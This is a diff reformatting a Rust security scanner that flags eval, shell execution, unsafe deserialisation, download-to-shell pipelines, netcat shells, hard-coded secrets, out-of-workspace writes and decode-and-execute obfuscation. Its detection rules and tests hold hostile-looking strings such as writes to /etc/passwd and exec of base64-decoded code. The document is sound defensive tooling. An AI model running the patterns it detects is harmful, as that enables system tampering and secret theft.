@@ -10,25 +10,104 @@ use super::{Finding, Lang, Severity};
 
 /// Every built-in rule: id, severity, what it finds, how to fix it.
 pub const RULES: &[(&str, Severity, &str, &str)] = &[
-    ("PY001", Severity::High, "eval()/exec() of dynamic code", "parse the data (json, ast.literal_eval) instead of executing it"),
-    ("PY002", Severity::High, "shell command: os.system/os.popen, or subprocess with shell=True", "call subprocess.run([...]) with an argument list and shell=False"),
-    ("PY003", Severity::High, "unsafe deserialisation (pickle, marshal, shelve, dill)", "use json or another data-only format for untrusted input"),
-    ("PY004", Severity::High, "yaml.load without a safe loader", "use yaml.safe_load(...)"),
-    ("JS001", Severity::High, "eval(), new Function() or a string passed to setTimeout/setInterval", "parse data with JSON.parse; pass functions, not strings"),
-    ("JS002", Severity::High, "child_process exec/execSync, or spawn with shell: true", "use execFile/spawn with an argument array and no shell"),
-    ("SH001", Severity::High, "a download piped into a shell or interpreter", "download to a file, verify its checksum, then run it"),
-    ("SH002", Severity::Medium, "eval in shell", "avoid eval; use arrays and explicit commands"),
-    ("SEC001", Severity::High, "a hard-coded private key", "load keys from a secret store or the environment"),
-    ("SEC002", Severity::High, "a hard-coded cloud or API token", "revoke it and read it from the environment"),
-    ("SEC003", Severity::Medium, "a hard-coded password or secret", "read secrets from the environment or a secret store"),
-    ("FS001", Severity::High, "a write or delete outside the workspace (/work, /tmp)", "write only under the workspace"),
-    ("NET001", Severity::Medium, "a network address given as a raw IP, or a raw /dev/tcp or netcat connection", "use host names on the allow-list"),
-    ("OBF001", Severity::High, "decoded data executed (base64/hex/zlib into eval, exec or a shell)", "ship readable code"),
-    ("OBF002", Severity::Medium, "a long encoded blob in the source", "ship readable code and data files"),
+    (
+        "PY001",
+        Severity::High,
+        "eval()/exec() of dynamic code",
+        "parse the data (json, ast.literal_eval) instead of executing it",
+    ),
+    (
+        "PY002",
+        Severity::High,
+        "shell command: os.system/os.popen, or subprocess with shell=True",
+        "call subprocess.run([...]) with an argument list and shell=False",
+    ),
+    (
+        "PY003",
+        Severity::High,
+        "unsafe deserialisation (pickle, marshal, shelve, dill)",
+        "use json or another data-only format for untrusted input",
+    ),
+    (
+        "PY004",
+        Severity::High,
+        "yaml.load without a safe loader",
+        "use yaml.safe_load(...)",
+    ),
+    (
+        "JS001",
+        Severity::High,
+        "eval(), new Function() or a string passed to setTimeout/setInterval",
+        "parse data with JSON.parse; pass functions, not strings",
+    ),
+    (
+        "JS002",
+        Severity::High,
+        "child_process exec/execSync, or spawn with shell: true",
+        "use execFile/spawn with an argument array and no shell",
+    ),
+    (
+        "SH001",
+        Severity::High,
+        "a download piped into a shell or interpreter",
+        "download to a file, verify its checksum, then run it",
+    ),
+    (
+        "SH002",
+        Severity::Medium,
+        "eval in shell",
+        "avoid eval; use arrays and explicit commands",
+    ),
+    (
+        "SEC001",
+        Severity::High,
+        "a hard-coded private key",
+        "load keys from a secret store or the environment",
+    ),
+    (
+        "SEC002",
+        Severity::High,
+        "a hard-coded cloud or API token",
+        "revoke it and read it from the environment",
+    ),
+    (
+        "SEC003",
+        Severity::Medium,
+        "a hard-coded password or secret",
+        "read secrets from the environment or a secret store",
+    ),
+    (
+        "FS001",
+        Severity::High,
+        "a write or delete outside the workspace (/work, /tmp)",
+        "write only under the workspace",
+    ),
+    (
+        "NET001",
+        Severity::Medium,
+        "a network address given as a raw IP, or a raw /dev/tcp or netcat connection",
+        "use host names on the allow-list",
+    ),
+    (
+        "OBF001",
+        Severity::High,
+        "decoded data executed (base64/hex/zlib into eval, exec or a shell)",
+        "ship readable code",
+    ),
+    (
+        "OBF002",
+        Severity::Medium,
+        "a long encoded blob in the source",
+        "ship readable code and data files",
+    ),
 ];
 
 fn meta(id: &str) -> (Severity, &'static str, &'static str) {
-    RULES.iter().find(|r| r.0 == id).map(|r| (r.1, r.2, r.3)).unwrap_or((Severity::Medium, "", ""))
+    RULES
+        .iter()
+        .find(|r| r.0 == id)
+        .map(|r| (r.1, r.2, r.3))
+        .unwrap_or((Severity::Medium, "", ""))
 }
 
 struct Ctx<'a> {
@@ -41,8 +120,20 @@ struct Ctx<'a> {
 impl Ctx<'_> {
     fn add(&mut self, id: &str, line: usize, detail: &str) {
         let (severity, what, fix) = meta(id);
-        let message = if detail.is_empty() { what.to_string() } else { format!("{what}: {detail}") };
-        self.out.push(Finding { rule: id.into(), severity, file: self.file.into(), line, message, fix: fix.into(), tool: "baton".into() });
+        let message = if detail.is_empty() {
+            what.to_string()
+        } else {
+            format!("{what}: {detail}")
+        };
+        self.out.push(Finding {
+            rule: id.into(),
+            severity,
+            file: self.file.into(),
+            line,
+            message,
+            fix: fix.into(),
+            tool: "baton".into(),
+        });
     }
     fn text(&self, n: Node) -> &str {
         n.utf8_text(self.src).unwrap_or("")
@@ -55,17 +146,34 @@ fn line(n: Node) -> usize {
 
 fn short(s: &str) -> String {
     let one = s.split_whitespace().collect::<Vec<_>>().join(" ");
-    if one.chars().count() > 80 { format!("{}...", one.chars().take(77).collect::<String>()) } else { one }
+    if one.chars().count() > 80 {
+        format!("{}...", one.chars().take(77).collect::<String>())
+    } else {
+        one
+    }
 }
 
-static PRIVATE_KEY: LazyLock<Option<Regex>> = LazyLock::new(|| Regex::new(r"-----BEGIN ((RSA|DSA|EC|OPENSSH|ENCRYPTED|PGP) )?PRIVATE KEY( BLOCK)?-----").ok());
+static PRIVATE_KEY: LazyLock<Option<Regex>> = LazyLock::new(|| {
+    Regex::new(r"-----BEGIN ((RSA|DSA|EC|OPENSSH|ENCRYPTED|PGP) )?PRIVATE KEY( BLOCK)?-----").ok()
+});
 static TOKENS: LazyLock<Option<Regex>> = LazyLock::new(|| {
     Regex::new(r"(AKIA|ASIA)[0-9A-Z]{16}|gh[pousr]_[A-Za-z0-9]{36}|github_pat_[A-Za-z0-9_]{60,}|xox[baprs]-[A-Za-z0-9-]{10,}|sk-[A-Za-z0-9_-]{32,}|AIza[0-9A-Za-z_-]{35}|glpat-[A-Za-z0-9_-]{20}").ok()
 });
-static SECRET_NAME: LazyLock<Option<Regex>> = LazyLock::new(|| Regex::new(r"(?i)(passw(or)?d|passwd|secret|api_?key|apikey|access_?key|auth_?token|private_?key|token)$").ok());
-static RAW_IP: LazyLock<Option<Regex>> = LazyLock::new(|| Regex::new(r"^(?:[a-z][a-z0-9+.-]*://)?(\d{1,3})\.(\d{1,3})\.(\d{1,3})\.(\d{1,3})(?::\d+)?(?:/.*)?$").ok());
-static BLOB: LazyLock<Option<Regex>> = LazyLock::new(|| Regex::new(r"^[A-Za-z0-9+/=_-]{200,}$|^(?:\\x[0-9a-fA-F]{2}){50,}$|^[0-9a-fA-F]{300,}$").ok());
-static DECODE: LazyLock<Option<Regex>> = LazyLock::new(|| Regex::new(r"b64decode|b32decode|a85decode|decodebytes|unhexlify|fromhex|zlib\.decompress|codecs\.decode|rot.?13|atob\(|Buffer\.from\([^)]*(base64|hex)").ok());
+static SECRET_NAME: LazyLock<Option<Regex>> = LazyLock::new(|| {
+    Regex::new(r"(?i)(passw(or)?d|passwd|secret|api_?key|apikey|access_?key|auth_?token|private_?key|token)$").ok()
+});
+static RAW_IP: LazyLock<Option<Regex>> = LazyLock::new(|| {
+    Regex::new(
+        r"^(?:[a-z][a-z0-9+.-]*://)?(\d{1,3})\.(\d{1,3})\.(\d{1,3})\.(\d{1,3})(?::\d+)?(?:/.*)?$",
+    )
+    .ok()
+});
+static BLOB: LazyLock<Option<Regex>> = LazyLock::new(|| {
+    Regex::new(r"^[A-Za-z0-9+/=_-]{200,}$|^(?:\\x[0-9a-fA-F]{2}){50,}$|^[0-9a-fA-F]{300,}$").ok()
+});
+static DECODE: LazyLock<Option<Regex>> = LazyLock::new(|| {
+    Regex::new(r"b64decode|b32decode|a85decode|decodebytes|unhexlify|fromhex|zlib\.decompress|codecs\.decode|rot.?13|atob\(|Buffer\.from\([^)]*(base64|hex)").ok()
+});
 
 fn re(r: &LazyLock<Option<Regex>>) -> Option<&Regex> {
     r.as_ref()
@@ -74,9 +182,16 @@ fn re(r: &LazyLock<Option<Regex>>) -> Option<&Regex> {
 /// Whether a literal IP is one code should not be talking to directly (anything but
 /// loopback and the unspecified address).
 fn raw_ip(s: &str) -> bool {
-    let Some(c) = re(&RAW_IP).and_then(|r| r.captures(s.trim())) else { return false };
-    let octets: Vec<u32> = (1..=4).filter_map(|i| c.get(i)?.as_str().parse().ok()).collect();
-    octets.len() == 4 && octets.iter().all(|o| *o <= 255) && octets[0] != 127 && octets != [0, 0, 0, 0]
+    let Some(c) = re(&RAW_IP).and_then(|r| r.captures(s.trim())) else {
+        return false;
+    };
+    let octets: Vec<u32> = (1..=4)
+        .filter_map(|i| c.get(i)?.as_str().parse().ok())
+        .collect();
+    octets.len() == 4
+        && octets.iter().all(|o| *o <= 255)
+        && octets[0] != 127
+        && octets != [0, 0, 0, 0]
 }
 
 /// Whether a path literal points outside the workspace.
@@ -88,19 +203,37 @@ fn outside(p: &str) -> bool {
     if !p.starts_with('/') {
         return false;
     }
-    !["/work", "/tmp", "/dev/null", "/dev/stdout", "/dev/stderr", "/dev/fd/", "/proc/self/fd/"]
-        .iter()
-        .any(|ok| p == *ok || p.starts_with(&format!("{}/", ok.trim_end_matches('/'))) || (ok.ends_with('/') && p.starts_with(ok)))
+    ![
+        "/work",
+        "/tmp",
+        "/dev/null",
+        "/dev/stdout",
+        "/dev/stderr",
+        "/dev/fd/",
+        "/proc/self/fd/",
+    ]
+    .iter()
+    .any(|ok| {
+        p == *ok
+            || p.starts_with(&format!("{}/", ok.trim_end_matches('/')))
+            || (ok.ends_with('/') && p.starts_with(ok))
+    })
 }
 
 fn unquote(s: &str) -> &str {
     let s = s.trim();
-    let s = s.trim_start_matches(|c: char| matches!(c, 'r' | 'b' | 'f' | 'u' | 'R' | 'B' | 'F' | 'U'));
+    let s =
+        s.trim_start_matches(|c: char| matches!(c, 'r' | 'b' | 'f' | 'u' | 'R' | 'B' | 'F' | 'U'));
     s.trim_matches(|c| c == '"' || c == '\'' || c == '`')
 }
 
 pub fn scan(lang: Lang, file: &str, text: &str) -> Vec<Finding> {
-    let mut ctx = Ctx { file, src: text.as_bytes(), whole: text, out: Vec::new() };
+    let mut ctx = Ctx {
+        file,
+        src: text.as_bytes(),
+        whole: text,
+        out: Vec::new(),
+    };
     // Secrets are leaks wherever they are, comments included: line-based.
     for (i, l) in text.lines().enumerate() {
         if re(&PRIVATE_KEY).is_some_and(|r| r.is_match(l)) {
@@ -122,7 +255,9 @@ pub fn scan(lang: Lang, file: &str, text: &str) -> Vec<Finding> {
     if parser.set_language(&language).is_err() {
         return ctx.out;
     }
-    let Some(tree) = parser.parse(text, None) else { return ctx.out };
+    let Some(tree) = parser.parse(text, None) else {
+        return ctx.out;
+    };
     let mut stack = vec![tree.root_node()];
     while let Some(n) = stack.pop() {
         match lang {
@@ -153,7 +288,11 @@ fn secret_assignment(ctx: &mut Ctx, name: &str, value: Node) {
     let v = ctx.text(value).to_string();
     let is_literal = matches!(value.kind(), "string" | "template_string" | "raw_string");
     let inner = unquote(&v);
-    if is_literal && inner.len() >= 8 && !inner.contains(' ') && re(&SECRET_NAME).is_some_and(|r| r.is_match(name.trim())) {
+    if is_literal
+        && inner.len() >= 8
+        && !inner.contains(' ')
+        && re(&SECRET_NAME).is_some_and(|r| r.is_match(name.trim()))
+    {
         ctx.add("SEC003", line(value), name.trim());
     }
 }
@@ -161,9 +300,14 @@ fn secret_assignment(ctx: &mut Ctx, name: &str, value: Node) {
 fn python(ctx: &mut Ctx, n: Node) {
     match n.kind() {
         "call" => {
-            let Some(func) = n.child_by_field_name("function") else { return };
+            let Some(func) = n.child_by_field_name("function") else {
+                return;
+            };
             let f = ctx.text(func).to_string();
-            let args = n.child_by_field_name("arguments").map(|a| ctx.text(a).to_string()).unwrap_or_default();
+            let args = n
+                .child_by_field_name("arguments")
+                .map(|a| ctx.text(a).to_string())
+                .unwrap_or_default();
             let l = line(n);
             match f.as_str() {
                 "eval" | "exec" | "builtins.eval" | "builtins.exec" => {
@@ -172,30 +316,52 @@ fn python(ctx: &mut Ctx, n: Node) {
                         ctx.add("OBF001", l, &short(&args));
                     }
                 }
-                "os.system" | "os.popen" | "subprocess.getoutput" | "subprocess.getstatusoutput" | "commands.getoutput" | "os.execl" | "pty.spawn" => {
+                "os.system"
+                | "os.popen"
+                | "subprocess.getoutput"
+                | "subprocess.getstatusoutput"
+                | "commands.getoutput"
+                | "os.execl"
+                | "pty.spawn" => {
                     ctx.add("PY002", l, &short(&format!("{f}{args}")));
                     if re(&DECODE).is_some_and(|r| r.is_match(&args)) {
                         ctx.add("OBF001", l, &short(&args));
                     }
                 }
-                "pickle.loads" | "pickle.load" | "cPickle.loads" | "cPickle.load" | "_pickle.loads" | "marshal.loads" | "marshal.load" | "shelve.open" | "dill.loads" | "dill.load" | "jsonpickle.decode" | "pickle.Unpickler" => {
+                "pickle.loads" | "pickle.load" | "cPickle.loads" | "cPickle.load"
+                | "_pickle.loads" | "marshal.loads" | "marshal.load" | "shelve.open"
+                | "dill.loads" | "dill.load" | "jsonpickle.decode" | "pickle.Unpickler" => {
                     ctx.add("PY003", l, &f)
                 }
                 "yaml.unsafe_load" | "yaml.unsafe_load_all" => ctx.add("PY004", l, &f),
                 "yaml.load" | "yaml.load_all" => {
-                    if !["SafeLoader", "CSafeLoader", "BaseLoader"].iter().any(|s| args.contains(s)) {
+                    if !["SafeLoader", "CSafeLoader", "BaseLoader"]
+                        .iter()
+                        .any(|s| args.contains(s))
+                    {
                         ctx.add("PY004", l, &short(&format!("{f}{args}")));
                     }
                 }
                 _ => {}
             }
-            if f.starts_with("subprocess.") || f == "Popen" || f == "run" || f == "call" || f == "check_output" {
+            if f.starts_with("subprocess.")
+                || f == "Popen"
+                || f == "run"
+                || f == "call"
+                || f == "check_output"
+            {
                 if let Some(a) = n.child_by_field_name("arguments") {
                     let mut c = a.walk();
                     for kw in a.named_children(&mut c) {
                         if kw.kind() == "keyword_argument" {
-                            let name = kw.child_by_field_name("name").map(|x| ctx.text(x).to_string()).unwrap_or_default();
-                            let value = kw.child_by_field_name("value").map(|x| ctx.text(x).to_string()).unwrap_or_default();
+                            let name = kw
+                                .child_by_field_name("name")
+                                .map(|x| ctx.text(x).to_string())
+                                .unwrap_or_default();
+                            let value = kw
+                                .child_by_field_name("value")
+                                .map(|x| ctx.text(x).to_string())
+                                .unwrap_or_default();
                             if name == "shell" && value == "True" {
                                 ctx.add("PY002", l, &short(&format!("{f}{args}")));
                             }
@@ -204,15 +370,30 @@ fn python(ctx: &mut Ctx, n: Node) {
                 }
             }
             // Writes and deletes outside the workspace.
-            let first = n.child_by_field_name("arguments").and_then(|a| a.named_child(0));
-            let first_lit = first.filter(|a| a.kind() == "string").map(|a| unquote(ctx.text(a)).to_string());
+            let first = n
+                .child_by_field_name("arguments")
+                .and_then(|a| a.named_child(0));
+            let first_lit = first
+                .filter(|a| a.kind() == "string")
+                .map(|a| unquote(ctx.text(a)).to_string());
             if let Some(path) = first_lit {
                 let writes = match f.as_str() {
                     "open" | "io.open" | "os.open" => {
-                        let mode = n.child_by_field_name("arguments").and_then(|a| a.named_child(1)).map(|m| ctx.text(m).to_string()).unwrap_or_default();
-                        mode.contains('w') || mode.contains('a') || mode.contains('x') || mode.contains('+') || mode.contains("O_WRONLY") || mode.contains("O_RDWR")
+                        let mode = n
+                            .child_by_field_name("arguments")
+                            .and_then(|a| a.named_child(1))
+                            .map(|m| ctx.text(m).to_string())
+                            .unwrap_or_default();
+                        mode.contains('w')
+                            || mode.contains('a')
+                            || mode.contains('x')
+                            || mode.contains('+')
+                            || mode.contains("O_WRONLY")
+                            || mode.contains("O_RDWR")
                     }
-                    "os.remove" | "os.unlink" | "os.rmdir" | "shutil.rmtree" | "os.chmod" | "os.chown" | "os.rename" | "shutil.move" | "shutil.copy" | "os.symlink" | "os.makedirs" | "os.mkdir" => true,
+                    "os.remove" | "os.unlink" | "os.rmdir" | "shutil.rmtree" | "os.chmod"
+                    | "os.chown" | "os.rename" | "shutil.move" | "shutil.copy" | "os.symlink"
+                    | "os.makedirs" | "os.mkdir" => true,
                     _ => f.ends_with(".write_text") || f.ends_with(".write_bytes"),
                 };
                 if writes && outside(&path) {
@@ -223,7 +404,10 @@ fn python(ctx: &mut Ctx, n: Node) {
                 if let Some(inner) = func.child_by_field_name("object") {
                     let t = ctx.text(inner).to_string();
                     if let Some(start) = t.find(['"', '\'']) {
-                        let p = unquote(&t[start..]).trim_end_matches(')').trim_end_matches(['"', '\'']).to_string();
+                        let p = unquote(&t[start..])
+                            .trim_end_matches(')')
+                            .trim_end_matches(['"', '\''])
+                            .to_string();
                         if outside(&p) {
                             ctx.add("FS001", l, &short(&t));
                         }
@@ -236,13 +420,19 @@ fn python(ctx: &mut Ctx, n: Node) {
             string_checks(ctx, n, &t);
         }
         "assignment" => {
-            if let (Some(left), Some(right)) = (n.child_by_field_name("left"), n.child_by_field_name("right")) {
+            if let (Some(left), Some(right)) = (
+                n.child_by_field_name("left"),
+                n.child_by_field_name("right"),
+            ) {
                 let name = ctx.text(left).to_string();
                 secret_assignment(ctx, &name, right);
             }
         }
         "keyword_argument" => {
-            if let (Some(k), Some(v)) = (n.child_by_field_name("name"), n.child_by_field_name("value")) {
+            if let (Some(k), Some(v)) = (
+                n.child_by_field_name("name"),
+                n.child_by_field_name("value"),
+            ) {
                 let name = ctx.text(k).to_string();
                 secret_assignment(ctx, &name, v);
             }
@@ -254,10 +444,14 @@ fn python(ctx: &mut Ctx, n: Node) {
 fn js(ctx: &mut Ctx, n: Node) {
     match n.kind() {
         "call_expression" => {
-            let Some(func) = n.child_by_field_name("function") else { return };
+            let Some(func) = n.child_by_field_name("function") else {
+                return;
+            };
             let f = ctx.text(func).to_string();
             let args_node = n.child_by_field_name("arguments");
-            let args = args_node.map(|a| ctx.text(a).to_string()).unwrap_or_default();
+            let args = args_node
+                .map(|a| ctx.text(a).to_string())
+                .unwrap_or_default();
             let l = line(n);
             let first = args_node.and_then(|a| a.named_child(0));
             match f.as_str() {
@@ -272,26 +466,50 @@ fn js(ctx: &mut Ctx, n: Node) {
                         ctx.add("JS001", l, &short(&format!("{f}{args}")));
                     }
                 }
-                "vm.runInNewContext" | "vm.runInThisContext" | "vm.runInContext" => ctx.add("JS001", l, &short(&f)),
+                "vm.runInNewContext" | "vm.runInThisContext" | "vm.runInContext" => {
+                    ctx.add("JS001", l, &short(&f))
+                }
                 _ => {}
             }
             let uses_cp = ctx.whole.contains("child_process");
             let last = f.rsplit('.').next().unwrap_or(&f);
-            if uses_cp && matches!(last, "exec" | "execSync") && !f.starts_with("RegExp") && !f.ends_with("re.exec") {
+            if uses_cp
+                && matches!(last, "exec" | "execSync")
+                && !f.starts_with("RegExp")
+                && !f.ends_with("re.exec")
+            {
                 ctx.add("JS002", l, &short(&format!("{f}{args}")));
                 if re(&DECODE).is_some_and(|r| r.is_match(&args)) {
                     ctx.add("OBF001", l, &short(&args));
                 }
             }
-            if uses_cp && matches!(last, "spawn" | "spawnSync" | "execFile" | "execFileSync") && args.replace(' ', "").contains("shell:true") {
+            if uses_cp
+                && matches!(last, "spawn" | "spawnSync" | "execFile" | "execFileSync")
+                && args.replace(' ', "").contains("shell:true")
+            {
                 ctx.add("JS002", l, &short(&format!("{f}{args}")));
             }
             let writes = matches!(
                 last,
-                "writeFileSync" | "writeFile" | "appendFileSync" | "appendFile" | "unlinkSync" | "unlink" | "rmSync" | "rm" | "rmdirSync" | "chmodSync" | "chownSync" | "createWriteStream" | "symlinkSync" | "renameSync" | "mkdirSync"
+                "writeFileSync"
+                    | "writeFile"
+                    | "appendFileSync"
+                    | "appendFile"
+                    | "unlinkSync"
+                    | "unlink"
+                    | "rmSync"
+                    | "rm"
+                    | "rmdirSync"
+                    | "chmodSync"
+                    | "chownSync"
+                    | "createWriteStream"
+                    | "symlinkSync"
+                    | "renameSync"
+                    | "mkdirSync"
             ) && (f.starts_with("fs") || f.contains("fs.") || f.starts_with("Deno."));
             if writes {
-                if let Some(a) = first.filter(|a| matches!(a.kind(), "string" | "template_string")) {
+                if let Some(a) = first.filter(|a| matches!(a.kind(), "string" | "template_string"))
+                {
                     let p = unquote(ctx.text(a)).to_string();
                     if outside(&p) {
                         ctx.add("FS001", l, &short(&format!("{f}({p})")));
@@ -312,13 +530,18 @@ fn js(ctx: &mut Ctx, n: Node) {
             string_checks(ctx, n, &t);
         }
         "variable_declarator" => {
-            if let (Some(k), Some(v)) = (n.child_by_field_name("name"), n.child_by_field_name("value")) {
+            if let (Some(k), Some(v)) = (
+                n.child_by_field_name("name"),
+                n.child_by_field_name("value"),
+            ) {
                 let name = ctx.text(k).to_string();
                 secret_assignment(ctx, &name, v);
             }
         }
         "pair" => {
-            if let (Some(k), Some(v)) = (n.child_by_field_name("key"), n.child_by_field_name("value")) {
+            if let (Some(k), Some(v)) =
+                (n.child_by_field_name("key"), n.child_by_field_name("value"))
+            {
                 let name = unquote(ctx.text(k)).to_string();
                 secret_assignment(ctx, &name, v);
             }
@@ -328,17 +551,38 @@ fn js(ctx: &mut Ctx, n: Node) {
 }
 
 fn shell(ctx: &mut Ctx, n: Node) {
-    let interpreters = ["sh", "bash", "zsh", "dash", "ksh", "python", "python3", "perl", "ruby", "node"];
+    let interpreters = [
+        "sh", "bash", "zsh", "dash", "ksh", "python", "python3", "perl", "ruby", "node",
+    ];
     match n.kind() {
         "pipeline" => {
             let mut c = n.walk();
-            let cmds: Vec<String> = n.named_children(&mut c).filter(|x| x.kind() == "command").map(|x| ctx.text(x).to_string()).collect();
-            let name = |s: &str| s.split_whitespace().next().unwrap_or("").rsplit('/').next().unwrap_or("").to_string();
-            let downloads = cmds.iter().any(|s| matches!(name(s).as_str(), "curl" | "wget" | "fetch"));
-            let decodes = cmds.iter().any(|s| (name(s) == "base64" && (s.contains(" -d") || s.contains("--decode"))) || name(s) == "xxd" || name(s) == "openssl");
+            let cmds: Vec<String> = n
+                .named_children(&mut c)
+                .filter(|x| x.kind() == "command")
+                .map(|x| ctx.text(x).to_string())
+                .collect();
+            let name = |s: &str| {
+                s.split_whitespace()
+                    .next()
+                    .unwrap_or("")
+                    .rsplit('/')
+                    .next()
+                    .unwrap_or("")
+                    .to_string()
+            };
+            let downloads = cmds
+                .iter()
+                .any(|s| matches!(name(s).as_str(), "curl" | "wget" | "fetch"));
+            let decodes = cmds.iter().any(|s| {
+                (name(s) == "base64" && (s.contains(" -d") || s.contains("--decode")))
+                    || name(s) == "xxd"
+                    || name(s) == "openssl"
+            });
             let runs = cmds.iter().skip(1).any(|s| {
                 let nm = name(s);
-                interpreters.contains(&nm.as_str()) || (nm == "sudo" && interpreters.iter().any(|i| s.contains(i)))
+                interpreters.contains(&nm.as_str())
+                    || (nm == "sudo" && interpreters.iter().any(|i| s.contains(i)))
             });
             if downloads && runs {
                 let t = ctx.text(n).to_string();
@@ -350,8 +594,15 @@ fn shell(ctx: &mut Ctx, n: Node) {
             }
         }
         "command" => {
-            let Some(name_node) = n.child_by_field_name("name") else { return };
-            let name = ctx.text(name_node).rsplit('/').next().unwrap_or("").to_string();
+            let Some(name_node) = n.child_by_field_name("name") else {
+                return;
+            };
+            let name = ctx
+                .text(name_node)
+                .rsplit('/')
+                .next()
+                .unwrap_or("")
+                .to_string();
             let t = ctx.text(n).to_string();
             let l = line(n);
             match name.as_str() {
@@ -361,9 +612,14 @@ fn shell(ctx: &mut Ctx, n: Node) {
                         ctx.add("OBF001", l, &short(&t));
                     }
                 }
-                "source" | "." if t.contains("<(curl") || t.contains("<(wget") => ctx.add("SH001", l, &short(&t)),
-                "nc" | "ncat" | "netcat" if t.contains(" -e") || t.contains(" -c") => ctx.add("NET001", l, &short(&t)),
-                "rm" | "chmod" | "chown" | "dd" | "mv" | "cp" | "ln" | "tee" | "truncate" | "shred" | "mkfs" | "touch" => {
+                "source" | "." if t.contains("<(curl") || t.contains("<(wget") => {
+                    ctx.add("SH001", l, &short(&t))
+                }
+                "nc" | "ncat" | "netcat" if t.contains(" -e") || t.contains(" -c") => {
+                    ctx.add("NET001", l, &short(&t))
+                }
+                "rm" | "chmod" | "chown" | "dd" | "mv" | "cp" | "ln" | "tee" | "truncate"
+                | "shred" | "mkfs" | "touch" => {
                     let mut c = n.walk();
                     let hit = n
                         .children_by_field_name("argument", &mut c)
@@ -374,7 +630,10 @@ fn shell(ctx: &mut Ctx, n: Node) {
                     // For cp/ln/mv only the last argument is written.
                     let hit = if matches!(name.as_str(), "cp" | "ln" | "mv") {
                         let mut c = n.walk();
-                        let last = n.children_by_field_name("argument", &mut c).last().map(|a| unquote(ctx.text(a)).to_string());
+                        let last = n
+                            .children_by_field_name("argument", &mut c)
+                            .last()
+                            .map(|a| unquote(ctx.text(a)).to_string());
                         last.filter(|a| outside(a))
                     } else {
                         hit
@@ -402,7 +661,10 @@ fn shell(ctx: &mut Ctx, n: Node) {
             string_checks(ctx, n, &t);
         }
         "variable_assignment" => {
-            if let (Some(k), Some(v)) = (n.child_by_field_name("name"), n.child_by_field_name("value")) {
+            if let (Some(k), Some(v)) = (
+                n.child_by_field_name("name"),
+                n.child_by_field_name("value"),
+            ) {
                 let name = ctx.text(k).to_string();
                 secret_assignment(ctx, &name, v);
             }
@@ -425,24 +687,81 @@ mod tests {
     #[test]
     fn python_rules() {
         assert_eq!(rules(Lang::Python, "eval(input())"), ["PY001"]);
-        assert_eq!(rules(Lang::Python, "# eval(x) in a comment\ns = 'eval(x)'\n"), Vec::<String>::new());
-        assert_eq!(rules(Lang::Python, "import subprocess\nsubprocess.run(cmd,\n  shell=True)\n"), ["PY002"]);
-        assert_eq!(rules(Lang::Python, "import subprocess\nsubprocess.run(['ls'], shell=False)\n"), Vec::<String>::new());
-        assert_eq!(rules(Lang::Python, "import os\nos.system('rm x')"), ["PY002"]);
+        assert_eq!(
+            rules(Lang::Python, "# eval(x) in a comment\ns = 'eval(x)'\n"),
+            Vec::<String>::new()
+        );
+        assert_eq!(
+            rules(
+                Lang::Python,
+                "import subprocess\nsubprocess.run(cmd,\n  shell=True)\n"
+            ),
+            ["PY002"]
+        );
+        assert_eq!(
+            rules(
+                Lang::Python,
+                "import subprocess\nsubprocess.run(['ls'], shell=False)\n"
+            ),
+            Vec::<String>::new()
+        );
+        assert_eq!(
+            rules(Lang::Python, "import os\nos.system('rm x')"),
+            ["PY002"]
+        );
         assert_eq!(rules(Lang::Python, "pickle.loads(blob)"), ["PY003"]);
         assert_eq!(rules(Lang::Python, "yaml.load(f)"), ["PY004"]);
-        assert_eq!(rules(Lang::Python, "yaml.load(f, Loader=yaml.SafeLoader)"), Vec::<String>::new());
-        assert_eq!(rules(Lang::Python, "open('/etc/passwd', 'w').write('x')"), ["FS001"]);
-        assert_eq!(rules(Lang::Python, "open('/etc/passwd').read()"), Vec::<String>::new());
-        assert_eq!(rules(Lang::Python, "open('/work/out.txt', 'w')"), Vec::<String>::new());
+        assert_eq!(
+            rules(Lang::Python, "yaml.load(f, Loader=yaml.SafeLoader)"),
+            Vec::<String>::new()
+        );
+        assert_eq!(
+            rules(Lang::Python, "open('/etc/passwd', 'w').write('x')"),
+            ["FS001"]
+        );
+        assert_eq!(
+            rules(Lang::Python, "open('/etc/passwd').read()"),
+            Vec::<String>::new()
+        );
+        assert_eq!(
+            rules(Lang::Python, "open('/work/out.txt', 'w')"),
+            Vec::<String>::new()
+        );
         assert_eq!(rules(Lang::Python, "open('../../x', 'a')"), ["FS001"]);
-        assert_eq!(rules(Lang::Python, "requests.get('http://203.0.113.9/x')"), ["NET001"]);
-        assert_eq!(rules(Lang::Python, "requests.get('http://127.0.0.1:8000/x')"), Vec::<String>::new());
-        assert_eq!(rules(Lang::Python, "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))"), ["OBF001", "PY001"]);
-        assert_eq!(rules(Lang::Python, "password = 'hunter2hunter2'"), ["SEC003"]);
-        assert_eq!(rules(Lang::Python, "password = os.environ['PW']"), Vec::<String>::new());
-        assert_eq!(rules(Lang::Python, "k = 'AKIAABCDEFGHIJKLMNOP'"), ["SEC002"]);
-        assert_eq!(rules(Lang::Python, "KEY = '''-----BEGIN RSA PRIVATE KEY-----\nabc'''"), ["SEC001"]);
+        assert_eq!(
+            rules(Lang::Python, "requests.get('http://203.0.113.9/x')"),
+            ["NET001"]
+        );
+        assert_eq!(
+            rules(Lang::Python, "requests.get('http://127.0.0.1:8000/x')"),
+            Vec::<String>::new()
+        );
+        assert_eq!(
+            rules(
+                Lang::Python,
+                "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))"
+            ),
+            ["OBF001", "PY001"]
+        );
+        assert_eq!(
+            rules(Lang::Python, "password = 'hunter2hunter2'"),
+            ["SEC003"]
+        );
+        assert_eq!(
+            rules(Lang::Python, "password = os.environ['PW']"),
+            Vec::<String>::new()
+        );
+        assert_eq!(
+            rules(Lang::Python, "k = 'AKIAABCDEFGHIJKLMNOP'"),
+            ["SEC002"]
+        );
+        assert_eq!(
+            rules(
+                Lang::Python,
+                "KEY = '''-----BEGIN RSA PRIVATE KEY-----\nabc'''"
+            ),
+            ["SEC001"]
+        );
         let blob = format!("x = '{}'", "QUFB".repeat(60));
         assert_eq!(rules(Lang::Python, &blob), ["OBF002"]);
     }
@@ -450,32 +769,104 @@ mod tests {
     #[test]
     fn js_and_ts_rules() {
         assert_eq!(rules(Lang::JavaScript, "eval(userInput)"), ["JS001"]);
-        assert_eq!(rules(Lang::JavaScript, "const f = new Function('a', 'return a')"), ["JS001"]);
-        assert_eq!(rules(Lang::JavaScript, "setTimeout('alert(1)', 10); setTimeout(() => 1, 10)"), ["JS001"]);
